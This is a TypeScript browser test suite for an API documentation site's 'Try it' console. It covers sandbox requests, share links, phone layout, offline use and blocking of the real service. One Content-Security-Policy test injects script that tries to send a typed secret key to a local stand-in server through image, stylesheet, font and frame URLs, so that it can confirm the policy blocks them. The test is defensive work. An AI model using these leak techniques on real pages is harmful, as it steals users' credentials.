// The Try it console in a real Chromium, on the built site served under a sub-path as GitHub Pages
// serves it, with the network cut off (every host but 127.0.0.1 unresolvable) and no sandbox
// process: the page answers from its own files, the sandbox running in its Service Worker. Every
// operation is sent with its examples, every worked mistake gets its documented status, the link
// round-trips, the samples are rewritten with what was sent, a local node:http sandbox can be the
// target instead, and nothing is ever sent to the real service's hosts.
import { mkdirSync, readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { type Sandbox, startSandbox } from '@merchant-ordering/sandbox';
import { serveStatic } from '@merchant-ordering/test-kit/static-server';
import { chromiumArgs, chromiumPath } from '@merchant-ordering/test-kit/chromium';
import { type Browser, type BrowserContext, chromium, type Locator, type Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { mistakesFor } from '../console/mistakes';
import { consoleOperations, type ConsoleOperation } from '../console/operations';
import { realServiceDomains } from '../console/targets';
import { launchChromium, leavesLocalhost } from './support/chromium';
import { parseCurl, shellArguments } from './support/curl';
import { send } from './support/http-exchange';
import { dist, readDocsBundle, readSpec, testOutput } from './support/paths';
import { listQueryFor } from './support/sandbox-samples';

const spec = readSpec();
const docs = readDocsBundle();
const operations = consoleOperations(spec);
const SUB_PATH = '/toolkit/';
const shots = join(testOutput, 'try-it');

let site: { url: string; close: () => Promise<void> };
let browser: Browser;
let context: BrowserContext;
let page: Page;
const problems: string[] = [];
/** Every request any page, worker or popup of the context made, as `METHOD url`. */
const requests: string[] = [];

beforeAll(async () => {
  mkdirSync(shots, { recursive: true });
  site = await serveStatic({ root: dist, prefix: SUB_PATH });
  browser = await launchChromium();
  context = await browser.newContext({ viewport: { width: 1400, height: 900 } });
  watch(context);
  page = await context.newPage();
});

afterEach(() => {
  // After every test, so the test that caused it is the one that fails.
  const outside = requests.splice(0).filter((request) => leavesLocalhost(request.split(' ')[1]!));
  expect({ problems: problems.splice(0), requestsThatLeftLocalhost: outside }).toEqual({ problems: [], requestsThatLeftLocalhost: [] });
});

afterAll(async () => {
  await browser?.close();
  await site?.close();
});

function watch(watched: BrowserContext) {
  watched.on('request', (request) => requests.push(`${request.method()} ${request.url()}`));
  watched.on('page', (opened) => {
    opened.on('console', (message) => {
      if (message.type() === 'error') problems.push(`console.error: ${message.text()}`);
    });
    opened.on('pageerror', (error) => problems.push(`uncaught: ${error.message}`));
  });
}

describe('the Try it console', () => {
  it.each(operations.map((operation) => [operation.summary, operation]))(
    'opens from the Try it control of %s, prefilled with its examples and the sandbox’s credentials',
    async (_, operation) => {
      const dialog = await openConsole(page, operation);
      await expect.poll(() => dialog.getByRole('heading', { level: 2 }).innerText()).toContain(`Try it: ${operation.summary}`);
      if (operation.requiresAuth) {
        expect(await dialog.getByLabel('Merchant ID').inputValue()).toBe('32');
        expect(await dialog.getByLabel('Secret Key').inputValue()).toBe('abcdefgh');
      }
      for (const parameter of operation.query) await dialog.locator(`[data-parameter="${parameter.name}"]`).waitFor();
      await dialog.screenshot({ path: join(shots, `console-${operation.operationId}.png`) });
    },
  );

  it.each(operations.map((operation) => [operation.summary, operation]))(
    'sends %s with its examples to the sandbox in the page and gets the promised answer',
    async (_, operation) => {
      const dialog = await openConsole(page, operation);
      const answer = await sendAndRead(dialog);
      expect(answer.status, answer.body).toBe(200);
      // What the sandbox in the page answered is what a node:http sandbox answers to the same request.
      const reference = await referenceAnswer(answer.sent);
      expect(answer.body).toBe(reference.body);
      // The named examples select payments every sandbox holds: the reader gets some back.
      if (operation.operationId === 'listPayments') expect(JSON.parse(answer.body).results.length).toBeGreaterThanOrEqual(1);
      await page.screenshot({ path: join(shots, `sent-${operation.operationId}.png`) });
    },
  );

  it('gets payments back from List payments through the console, filters of every kind applied', async () => {
    const reference = await startSandbox({ port: 0 });
    const { query, ids } = listQueryFor(reference.payments());
    await reference.close();
    const link = new URL(site.url);
    link.searchParams.set('try', 'listPayments');
    for (const [name, value] of Object.entries(query)) for (const item of [value].flat()) link.searchParams.append(name, item);
    await page.goto(link.href);
    const dialog = page.getByRole('dialog');
    const answer = await sendAndRead(dialog);
    expect(answer.status, answer.body).toBe(200);
    expect(
      JSON.parse(answer.body)
        .results.map(({ id }: { id: string }) => id)
        .sort(),
    ).toEqual([...ids].sort());
    await page.screenshot({ path: join(shots, 'payments-back.png') });
  });

  const withMistakes = operations.flatMap((operation) =>
    mistakesFor(spec, operation, 'page').map((mistake) => [`${operation.summary}: ${mistake.label}`, operation, mistake] as const),
  );
  it.each(withMistakes)('sends the worked mistake "%s" with one click and gets its documented status', async (_, operation, mistake) => {
    const dialog = await openConsole(page, operation);
    await dialog.locator(`[data-mistake="${mistake.id}"]`).click();
    const answer = await readAnswer(dialog);
    expect(answer.status, `${answer.sent}\n${answer.body}`).toBe(mistake.status);
    expectRefusalsLogged(mistake.status);
    expect(String(mistake.status) in operation.statuses).toBe(true);
    if (mistake.id === 'plus') expect(answer.sent).toMatch(/CreatedDate=[^&]*\+\d\d:\d\d/);
    if (mistake.id === 'comma') expect(answer.sent).toMatch(/=[^&]*,/);
    await dialog.screenshot({ path: join(shots, `mistake-${operation.operationId}-${mistake.id}.png`) });
  });
});

describe('on a phone', () => {
  // 390 px: an iPhone 12 to 15 in portrait. Every operation's dialog, filled in and answered, fits the
  // viewport: nothing in it reaches past either edge, so no field, picker or answer is cut.
  it.each(operations.map((operation) => [operation.summary, operation]))('fits %s into a 390 px viewport, after an answer too', async (_, operation) => {
    const phone = await browser.newContext({ viewport: { width: 390, height: 844 }, isMobile: true, hasTouch: true });
    watch(phone);
    try {
      const tab = await phone.newPage();
      const dialog = await openConsole(tab, operation);
      expect(await overflowing(dialog), 'before Send').toEqual([]);
      expect((await sendAndRead(dialog)).status).toBe(200);
      expect(await overflowing(dialog), 'after the answer').toEqual([]);
      await dialog.getByLabel('A local sandbox').check();
      expect(await overflowing(dialog), 'with the local sandbox URL').toEqual([]);
      await dialog.screenshot({ path: join(shots, `phone-${operation.operationId}.png`) });
    } finally {
      await phone.close();
    }
  });
});

/**
 * The dialog's elements that reach past the viewport's left or right edge, or past the dialog's own
 * (which would cut them: the dialog scrolls), named for a failure message.
 */
function overflowing(dialog: Locator): Promise<string[]> {
  return dialog.evaluate((root) => {
    const frame = root.getBoundingClientRect();
    const left = Math.max(0, frame.left);
    const right = Math.min(document.documentElement.clientWidth, frame.right);
    const found: string[] = [];
    for (const element of [root, ...root.querySelectorAll('*')]) {
      const box = element.getBoundingClientRect();
      if (box.width === 0 && box.height === 0) continue;
      const outside =
        element === root ? box.left < -0.5 || box.right > document.documentElement.clientWidth + 0.5 : box.left < left - 0.5 || box.right > right + 0.5;
      if (outside) {
        const name = element.getAttribute('aria-label') ?? element.getAttribute('data-parameter') ?? element.className;
        found.push(
          `${element.tagName.toLowerCase()} ${name}: ${Math.round(box.left)} to ${Math.round(box.right)} px, the dialog ${Math.round(left)} to ${Math.round(right)}`,
        );
      }
    }
    return found;
  });
}

describe('the share link', () => {
  it('carries the form: opened in a new page, it gives the same form and sends the same request', async () => {
    const dialog = await openConsole(page, operation('listPayments'));
    await dialog.getByLabel('limit', { exact: true }).fill('5');
    await dialog.getByRole('button', { name: 'Remove statuses value 2' }).click();
    await dialog.getByLabel('merchantReferences, value 1').fill('order 1&2 + café');
    await dialog.getByLabel('Arrays').selectOption('comma');
    const link = await dialog.getByRole('link', { name: 'Link to this request' }).getAttribute('href');
    expect(link).toContain('try=listPayments');
    const sent = (await sendAndRead(dialog)).sent;

    const other = await context.newPage();
    try {
      await other.goto(link!);
      const reopened = other.getByRole('dialog');
      await reopened.waitFor();
      expect(await reopened.getByLabel('limit', { exact: true }).inputValue()).toBe('5');
      expect(await reopened.getByLabel('merchantReferences, value 1').inputValue()).toBe('order 1&2 + café');
      expect(await reopened.getByLabel('Arrays').inputValue()).toBe('comma');
      expect(await reopened.getByRole('link', { name: 'Link to this request' }).getAttribute('href')).toBe(link);
      expect((await sendAndRead(reopened)).sent).toBe(sent);
      expectRefusalsLogged(500); // the comma mistake, sent twice
      await other.screenshot({ path: join(shots, 'shared-link.png') });
      // Closing the console takes the link out of the address bar; the route stays.
      await reopened.getByRole('button', { name: 'Close' }).click();
      expect(new URL(other.url()).search).toBe('');
      expect(new URL(other.url()).hash).toBe(new URL(link!).hash);
    } finally {
      await other.close();
    }
  });
});

describe('the rewritten samples', () => {
  it('show the request that went out: the curl calls the base URL it went to, the TypeScript passes the values', async () => {
    const dialog = await openConsole(page, operation('listPayments'));
    await dialog.getByLabel('limit', { exact: true }).fill('7');
    const answer = await sendAndRead(dialog);
    const curl = await dialog.locator('[data-sample="curl"] pre').innerText();
    const request = parseCurl(await shellArguments(curl));
    expect(request.url).toBe(answer.sent);
    expect(request.url.startsWith(`${site.url}sandbox/v2/payments?`)).toBe(true);
    expect(Object.fromEntries(request.headers)).toMatchObject({ Authorization: 'Basic MzI6YWJjZGVmZ2g=', Accept: 'application/json' });
    const typescript = await dialog.locator('[data-sample="TypeScript"] pre').innerText();
    expect(typescript).toContain('  limit: 7,\n');
    expect(typescript).toContain("secretKey: 'abcdefgh',");
    // Sent as the curl says to a node:http sandbox, it gets the answer the page showed.
    const reference = await referenceAnswer(request.url, request.headers);
    expect(reference.body).toBe(answer.body);
    await dialog.screenshot({ path: join(shots, 'rewritten-samples.png') });
  });
});

describe('a local sandbox as the target', () => {
  let local: Sandbox;
  beforeAll(async () => {
    local = await startSandbox({ port: 0 });
  });
  afterAll(async () => {
    await local?.close();
  });

  it('gets the answer from a node:http sandbox on this machine, across origins, and the samples name it', async () => {
    const dialog = await openConsole(page, operation('listPayments'));
    await dialog.getByLabel('A local sandbox').check();
    await dialog.getByLabel('Local sandbox URL').fill(local.url);
    await expect.poll(() => dialog.getByText('Chromium may ask you to allow access to devices on your local network').isVisible()).toBe(true);
    const answer = await sendAndRead(dialog);
    expect(answer.status, answer.body).toBe(200);
    expect(answer.sent.startsWith(`${local.url}/v2/payments?`)).toBe(true);
    expect(requests).toContain(`GET ${answer.sent}`);
    const typescript = await dialog.locator('[data-sample="TypeScript"] pre').innerText();
    expect(typescript).toContain(`baseUrl: process.env.MERCHANT_API_BASE_URL ?? '${local.url}',`);
    await dialog.screenshot({ path: join(shots, 'local-sandbox.png') });
  });

  it('is reached from a site Chromium counts as public (as the hosted https site) only once local-network access is allowed, as the console says', async () => {
    // The docs' origin treated as a public address, as https://merchant-ordering.github.io is.
    const publicSite = await serveStatic({ root: dist, prefix: SUB_PATH });
    const { port } = new URL(publicSite.url);
    const publicBrowser = await chromium.launch({
      executablePath: chromiumPath,
      args: [...chromiumArgs, `--ip-address-space-overrides=127.0.0.1:${port}=public`],
    });
    try {
      const outcomes: string[] = [];
      for (const allowed of [false, true]) {
        const reader = await publicBrowser.newContext({ viewport: { width: 1400, height: 900 } });
        if (allowed) await reader.grantPermissions(['local-network-access']);
        const tab = await reader.newPage();
        const link = new URL(publicSite.url);
        link.searchParams.set('try', 'ping');
        link.searchParams.set('try-target', local.url);
        await tab.goto(link.href);
        const dialog = tab.getByRole('dialog');
        await dialog.getByRole('button', { name: 'Send', exact: true }).click();
        const outcome = dialog.locator('[data-status], .try-it-status-failed').first();
        await outcome.waitFor();
        outcomes.push(`${allowed ? 'allowed' : 'not allowed'}: ${(await outcome.innerText()).split(' in ')[0]}`);
        await tab.screenshot({ path: join(shots, `local-network-${allowed ? 'allowed' : 'not-allowed'}.png`) });
        await reader.close();
      }
      expect(outcomes).toEqual([
        `not allowed: No answer: ${local.url} did not answer. Is \`pnpm start\` (or \`pnpm sandbox\`) running there, and was local-network access allowed?`,
        'allowed: 200 OK',
      ]);
    } finally {
      await publicBrowser.close();
      await publicSite.close();
    }
  });

  it('says plainly when the local sandbox is not running', async () => {
    const stopped = await startSandbox({ port: 0 });
    await stopped.close();
    const dialog = await openConsole(page, operation('getConfiguration'));
    await dialog.getByLabel('A local sandbox').check();
    await dialog.getByLabel('Local sandbox URL').fill(stopped.url);
    await dialog.getByRole('button', { name: 'Send', exact: true }).click();
    await expect.poll(() => dialog.locator('.try-it-status-failed').innerText()).toContain(`${stopped.url} did not answer`);
    problems.splice(0); // Chromium logs the refused connection as a console error: expected here.
  });
});

describe('the real service', () => {
  const hosts = realServiceDomains(spec).filter((host) => host.includes('.') && host.split('.').length > 2);

  it.each(hosts)('is never sent to: %s typed as the local sandbox is refused before anything is sent', async (host) => {
    const dialog = await openConsole(page, operation('listPayments'));
    await dialog.getByLabel('A local sandbox').check();
    await dialog.getByLabel('Local sandbox URL').fill(`https://${host}`);
    await expect.poll(() => dialog.locator('.try-it-problem').innerText()).toContain('is the real service');
    await dialog.getByRole('button', { name: 'Send', exact: true }).click();
    await expect.poll(() => dialog.locator('.try-it-status-failed').innerText()).toContain('is the real service');
    expect(requests.filter((request) => new URL(request.split(' ')[1]!).hostname === host)).toEqual([]);
  });

  it('is not reached from a link that names it either', async () => {
    const link = new URL(site.url);
    link.searchParams.set('try', 'getConfiguration');
    link.searchParams.set('try-target', 'https://global-api.afterpay.com');
    await page.goto(link.href);
    const dialog = page.getByRole('dialog');
    await dialog.getByRole('button', { name: 'Send', exact: true }).click();
    await expect.poll(() => dialog.locator('.try-it-status-failed').innerText()).toContain('is the real service');
    expect(requests.filter((request) => /afterpay\.com$/.test(new URL(request.split(' ')[1]!).hostname))).toEqual([]);
  });

  it("is out of the page's reach: its Content-Security-Policy refuses any connection but its own and this machine's", async () => {
    await page.goto(site.url);
    const refused = await page.evaluate(
      async (urls) => {
        const outcomes: string[] = [];
        for (const url of urls)
          outcomes.push(
            await fetch(url).then(
              () => `${url} reached`,
              () => `${url} refused`,
            ),
          );
        return outcomes;
      },
      ['https://global-api.afterpay.com/ping', 'https://global-api-sandbox.afterpay.com/ping', 'http://192.168.1.20:4010/ping'],
    );
    expect(refused).toEqual([
      'https://global-api.afterpay.com/ping refused',
      'https://global-api-sandbox.afterpay.com/ping refused',
      'http://192.168.1.20:4010/ping refused',
    ]);
    // Refused by the policy, not by the resolver: the request never started.
    expect(requests.filter((request) => !request.includes('127.0.0.1'))).toEqual([]);
    expect(problems.splice(0).every((problem) => /Content Security Policy/.test(problem))).toBe(true);
  });
});

describe("the page's Content-Security-Policy", () => {
  // A script in the page (an injected one, say) holds the typed Secret Key: it must not carry it to
  // another origin as an image, a stylesheet, a font or a frame either. The other origin here is a
  // server on this machine, reachable were the policy to allow it, that records what it is asked for.
  let other: { url: string; asked: string[]; close: () => Promise<void> };
  beforeAll(async () => {
    const asked: string[] = [];
    const server = createServer((request, response) => {
      asked.push(request.url ?? '');
      response.end();
    });
    await new Promise<void>((listening) => server.listen(0, '127.0.0.1', () => listening()));
    const { port } = server.address() as AddressInfo;
    other = {
      url: `http://127.0.0.1:${port}`,
      asked,
      close: () =>
        new Promise((closed) => {
          server.close(() => closed());
          server.closeAllConnections(); // Chromium may hold an idle socket open; no request came on it
        }),
    };
  });
  afterAll(async () => {
    await other?.close();
  });

  it('refuses an image, a stylesheet, a font and a frame from another origin, carrying the typed Secret Key', async () => {
    const dialog = await openConsole(page, operation('getConfiguration'));
    await dialog.getByLabel('Secret Key').fill('typed-secret');
    const secret = await dialog.getByLabel('Secret Key').inputValue();
    const refused = await page.evaluate(
      async ([origin, secret]) => {
        const violations: string[] = [];
        document.addEventListener('securitypolicyviolation', (event) => violations.push(`${event.effectiveDirective} ${event.blockedURI}`));
        const leak = `${origin}/leak?key=${secret}`;
        const image = Object.assign(document.createElement('img'), { src: `${leak}&as=image` });
        const sheet = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${leak}&as=stylesheet` });
        const font = Object.assign(document.createElement('style'), {
          textContent: `@font-face { font-family: leak; src: url(${leak}&as=font); } body { font-family: leak; }`,
        });
        const frame = Object.assign(document.createElement('iframe'), { src: `${leak}&as=frame` });
        document.body.append(image, sheet, font, frame);
        await new Promise((settled) => setTimeout(settled, 1000));
        return violations.map((violation) => violation.replace(origin, 'OTHER')).sort();
      },
      [other.url, secret] as const,
    );
    expect(refused).toEqual([
      'font-src OTHER/leak?key=typed-secret&as=font',
      // A frame's report names only the origin it would have opened.
      'frame-src OTHER',
      'img-src OTHER/leak?key=typed-secret&as=image',
      'style-src-elem OTHER/leak?key=typed-secret&as=stylesheet',
    ]);
    expect(other.asked).toEqual([]);
    // Chromium logs each refusal as a console error: expected here, and only these.
    for (const problem of problems.splice(0)) expect(problem).toMatch(/Content Security Policy/);
  });
});

describe('offline', () => {
  it('keeps working once the site has been visited, with the static host gone', async () => {
    const own = await serveStatic({ root: dist, prefix: SUB_PATH });
    const visitor = await browser.newContext({ viewport: { width: 1400, height: 900 } });
    watch(visitor);
    try {
      const tab = await visitor.newPage();
      await tab.goto(`${own.url}#/payments/listpayments`);
      await tab.getByRole('button', { name: 'Try it' }).first().click();
      expect((await sendAndRead(tab.getByRole('dialog'))).status).toBe(200);
      // The agents' reference is kept with the rest of the site, though the page never loaded it.
      const agentFiles = ['llms.txt', 'llms-full.txt', 'operations/list-payments.md'];
      const kept = () =>
        tab.evaluate(async (files) => (await Promise.all(files.map((file) => caches.match(new URL(file, location.href).href)))).every(Boolean), agentFiles);
      await expect.poll(kept, { timeout: 20_000 }).toBe(true);
      await own.close(); // the host goes away: every file now comes from the visit before
      await tab.reload();
      await tab.getByRole('button', { name: 'Try it' }).first().click();
      const answer = await sendAndRead(tab.getByRole('dialog'));
      expect(answer.status, answer.body).toBe(200);
      const offline = await tab.evaluate(async (files) => Promise.all(files.map(async (file) => (await fetch(file)).text())), agentFiles);
      expect(offline).toEqual(agentFiles.map((file) => readFileSync(join(dist, file), 'utf8')));
      await tab.screenshot({ path: join(shots, 'offline.png') });
      problems.splice(0).forEach((problem) => expect(problem).toMatch(/ERR_CONNECTION_REFUSED|Failed to load resource/));
    } finally {
      await visitor.close();
      await own.close();
    }
  });
});

/** Chromium logs every non-2xx answer a page fetched as a console error: expected for a worked mistake, and only those. */
function expectRefusalsLogged(status: number) {
  const logged = problems.splice(0);
  expect(logged.length).toBeGreaterThan(0);
  for (const problem of logged) expect(problem).toBe(`console.error: Failed to load resource: the server responded with a status of ${status} ()`);
}

function operation(operationId: string): ConsoleOperation {
  const found = operations.find((candidate) => candidate.operationId === operationId);
  if (!found) throw new Error(`no operation ${operationId}`);
  return found;
}

/**
 * The operation's section (by its Redoc route: the tag's and the operation's names in lower case),
 * its Try it control clicked; resolves to the console's dialog.
 */
async function openConsole(on: Page, { operationId, summary }: ConsoleOperation): Promise<Locator> {
  const entry = Object.values(docs.paths as Record<string, Record<string, { operationId: string; tags: string[] }>>)
    .flatMap((item) => Object.values(item))
    .find((candidate) => candidate.operationId === operationId)!;
  const route = `#/${entry.tags[0]!.toLowerCase().replace(/\s+/g, '-')}/${operationId.toLowerCase()}`;
  await on.goto('about:blank');
  await on.goto(new URL(route, site.url).href);
  const button = on.getByRole('button', { name: 'Try it' }).and(on.locator(`[data-operation="${operationId}"]`));
  await button.waitFor({ timeout: 20_000 });
  // The control sits with the operation's heading.
  expect(await button.evaluate((element) => element.parentElement?.querySelector('h1, h2, h3')?.textContent?.trim())).toBe(summary);
  await button.click();
  const dialog = on.getByRole('dialog');
  await dialog.waitFor();
  return dialog;
}

async function sendAndRead(dialog: Locator) {
  const send = dialog.getByRole('button', { name: 'Send', exact: true });
  await expect.poll(() => send.isEnabled(), { timeout: 20_000 }).toBe(true);
  await send.click();
  return readAnswer(dialog);
}

/** The answer the console shows: the status, the request line it sent, the body. */
async function readAnswer(dialog: Locator) {
  const status = dialog.locator('[data-status]');
  await status.waitFor({ timeout: 20_000 });
  const sent = (await dialog.locator('.try-it-sent').innerText()).replace(/^GET /, '');
  return { status: Number(await status.getAttribute('data-status')), sent, body: await dialog.locator('.try-it-response').innerText() };
}

/** What a node:http sandbox (the defaults `pnpm start` uses) answers to the same URL, sent as is; errorId aside. */
async function referenceAnswer(
  url: string,
  headers: [string, string][] = [
    ['Authorization', 'Basic MzI6YWJjZGVmZ2g='],
    ['Accept', url.includes('/ping') ? 'text/plain' : 'application/json'],
  ],
) {
  const reference = await startSandbox({ port: 0 });
  try {
    const { pathname, search } = new URL(url);
    const target = pathname.replace(/^.*?(?=\/v2\/|\/ping)/, '') + search;
    const exchange = await send(reference.url, { method: 'GET', target, headers });
    let body = exchange.body;
    try {
      body = JSON.stringify(JSON.parse(body), null, 2);
    } catch {}
    return { status: exchange.status, body };
  } finally {
    await reference.close();
  }
}
